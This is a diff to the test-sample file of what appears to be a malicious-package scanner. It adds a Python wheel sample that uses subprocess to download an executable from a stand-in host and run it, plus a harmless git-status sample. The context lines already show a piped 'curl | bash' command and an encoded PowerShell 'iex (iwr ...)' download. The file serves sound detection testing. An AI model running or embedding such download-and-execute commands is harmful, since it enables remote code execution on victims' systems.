@@ -1,5 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { hooked, manifest, quiet } from '../samples-kit.ts';
+import { hooked, manifest, quiet, wheel } from '../samples-kit.ts';
 
 /** Line of the first script in a manifest made by `manifest`. */
 const SCRIPT_LINE = 5;
@@ -17,6 +17,13 @@ const ENCODED = Buffer.from('iex (iwr http://a.weir.test/p)', 'utf16le').toStrin
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: stored by one command and started by another',
+      files: wheel(
+        'import subprocess\nsubprocess.Popen("curl https://dl.weir.test/dark.exe -o dark.exe", shell=True)\nsubprocess.Popen(["C:/dark.exe"])\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 2, severity: 'critical' }],
+    },
     {
       name: 'download piped into a shell',
       files: hooked('curl -s http://a.weir.test/x | bash'),
@@ -120,6 +127,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a command that only shows',
+      wheel('import subprocess\ndef show():\n    return subprocess.check_output(["git", "status"])\n'),
+    ),
     quiet('a native build', {
       ...hooked('node-gyp rebuild'),
       'binding.gyp': `{ "targets": [{ "target_name": "x", "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"] }] }`,
